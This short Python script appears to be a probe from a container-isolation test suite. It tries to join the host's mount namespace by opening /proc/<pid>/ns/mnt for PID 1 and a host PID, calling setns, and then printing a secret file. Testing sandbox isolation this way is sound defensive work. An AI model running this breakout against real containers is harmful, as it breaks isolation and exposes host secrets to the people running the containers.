"""Join the host's mount namespace by /proc/1/ns."""

from __future__ import annotations

import os

from inside import TARGET, W, attempt, call, show

for pid in (TARGET, W["host_pid"]):
    descriptor = attempt(os.open, f"/proc/{pid}/ns/mnt", os.O_RDONLY)
    if descriptor is not None and attempt(call, "setns", descriptor, 0) is not None:
        attempt(show, W["secret"])
